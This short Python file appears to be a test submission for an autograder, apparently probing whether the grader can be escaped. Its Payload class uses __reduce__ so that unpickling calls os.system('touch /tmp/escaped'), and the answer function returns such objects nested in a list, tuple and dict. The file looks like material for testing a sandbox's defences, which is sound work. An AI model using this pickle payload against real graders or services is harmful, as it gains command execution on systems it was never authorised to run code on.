# attacks = "the grader, with objects that pickle to a command"
# points = { double = 0 }
# %% double
class Payload:
    def __reduce__(self):
        import os
        return os.system, ("touch /tmp/escaped",)
def double(x):
    return [Payload(), (Payload(),), {"a": Payload()}]
